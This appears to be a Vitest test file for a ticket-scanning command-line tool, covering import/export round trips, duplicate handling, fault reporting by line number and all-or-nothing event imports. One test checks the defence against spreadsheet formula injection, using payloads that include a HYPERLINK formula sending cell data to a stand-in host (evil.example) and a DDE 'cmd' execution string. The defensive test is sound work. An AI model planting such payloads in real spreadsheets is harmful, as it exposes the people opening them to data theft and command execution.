import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { InProcess } from '../../support/in-process.ts';

const place = new InProcess();
const path = (name: string) => join(place.path, name);
const write = (name: string, lines: readonly string[]) =>
  writeFileSync(path(name), `${lines.join('\n')}\n`);
const storeOf = (name: string) => `--store sqlite:./${name}.db --keyring ticketscan.keyring.json`;
const other = storeOf('other');

beforeAll(async () => {
  await place.json('seed --count 5');
});
afterAll(() => place[Symbol.asyncDispose]());

test.each(['all.csv', 'excel.csv --excel', 'all.jsonl'])(
  'an export as %s, imported into an empty store, exports as the same',
  async (file) => {
    const [name = ''] = file.split(' ');
    const store = storeOf(name);
    await place.run(`tickets export --out ${file}`);
    await place.json(`tickets import ${name} --create-events ${store}`);
    await place.run(`tickets export --out again-${file} ${store}`);

    const sorted = (one: string) => readFileSync(path(one), 'utf8').split('\n').toSorted();
    expect(sorted(`again-${name}`)).toEqual(sorted(name));
    expect(await place.json(`audit ${store}`)).toMatchObject({ ok: true, tickets: 85 });
  },
);

test('an imported card goes on from the uses that it brings', async () => {
  const id = 'tkt_abc123_0123456789abcdefghij';
  write('card.csv', ['ticketId,ticketType,usesAllowed,usesConsumed', `${id},multi,10,9`]);
  await place.json(`tickets import card.csv --create-events ${other}`);
  expect(await place.json(`tickets show ${id} ${other}`)).toMatchObject({ usesRemaining: 1 });
  expect(await place.json(`audit ${other}`)).toMatchObject({ ok: true });
});

test('importing the same list twice is refused, or leaves alone what is there', async () => {
  const again = await place.run('tickets import all.csv');
  const skipped = await place.json('tickets import all.csv --skip-existing');
  const lines = /lines 2, 3, .* and 75 more, column ticketId/u;
  expect([again.code, again.err]).toEqual([2, expect.stringMatching(lines)]);
  expect(skipped).toEqual({ imported: 0, existing: 85, known: 0, skippedFaults: 0 });
});

const ROWS = 20_000;

test(`of ${ROWS} rows with 37 faults every fault is named by line, and nothing is stored`, async () => {
  const faulty: number[] = [];
  const rows = Array.from({ length: ROWS }, (_, index) => {
    const id = `tkt_abc123_${index.toString(36).padStart(20, '0')}`;
    if (index % 540 !== 270) return `${id},single,1,Ada,,2026-12-24`;
    const kinds = [
      `${id},multi,101,Ada,,`,
      `${id},single,1,Ada,,24/12/2026`,
      `tkt_${index},single,1,Ada,,`,
      `${id},triple,1,Ada,,`,
      `${id},single,1,"Ada"x,,`,
      `${id},single,1`,
    ];
    faulty.push(index + 2);
    return kinds[faulty.length % kinds.length] ?? '';
  });
  write('big.csv', ['ticketId,type,usesAllowed,firstName,lastName,validUntil', ...rows]);

  const { code, err } = await place.run(`tickets import big.csv --create-events ${other}`);

  const lines = Array.from(err.matchAll(/^ {2}lines? ([\d, ]+)/gmu), ([, list = '']) => list);
  const named = lines.flatMap((list) => list.match(/\d+/gu)?.map(Number) ?? []);
  expect([code, faulty.length]).toEqual([2, 37]);
  expect(named.toSorted((a, b) => a - b)).toEqual(faulty);
  expect(await place.json(`audit ${other}`)).toMatchObject({ tickets: 1 });
});

test('names that are formulas come back from an export for Excel as they were', async () => {
  const names = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=x",
    '-1',
  ];
  write(
    'evil.jsonl',
    names.map((name) => JSON.stringify({ type: 'single', firstName: name })),
  );
  const minted = '--from-json evil.jsonl --out evil --format csv --excel';
  expect(await place.run(`mint --event "Summer pool" ${minted}`)).toMatchObject({ code: 0 });
  await place.run('tickets export --excel --out evil.csv');

  for (const file of ['evil.csv', 'evil/tickets.csv']) {
    expect(readFileSync(path(file), 'utf8')).not.toMatch(/(^|;)"?[=+@-]/mu);
    const store = `--store sqlite:./${file.replace('/', '-')}.db`;
    await place.json(`tickets import ${file} --create-events ${store}`);
    const tickets: { holder: { firstName: string } | null }[] = await place.json(
      `tickets list --limit 1000 ${store}`,
    );
    const found = tickets.map(({ holder }) => holder?.firstName);
    expect(found).toEqual(expect.arrayContaining(names));
  }
});

test('a list with two events of one name comes in as a whole, or nothing of it does', async () => {
  const rows = ['abc123', 'def456'].map((id) => `tkt_${id}_0123456789abcdefghij,Pool`);
  write('two.csv', ['ticketId,eventName', ...rows]);
  const two = storeOf('two');
  await place.json(`events create --name Pool ${two}`);
  await place.json(`tickets import two.csv --create-events ${two}`);
  const events: { name: string }[] = await place.json(`events list ${two}`);
  expect(events.map(({ name }) => name)).toEqual(['Pool', 'Pool (abc123)', 'Pool (def456)']);

  write('bad.csv', ['ticketId,eventName', rows[0] ?? '', 'tkt_new123_x,New']);
  const empty = storeOf('empty');
  const refused = await place.run(`tickets import bad.csv --create-events ${empty}`);
  expect(refused.code).toBe(2);
  expect(await place.json(`events list ${empty}`)).toEqual([]);
});
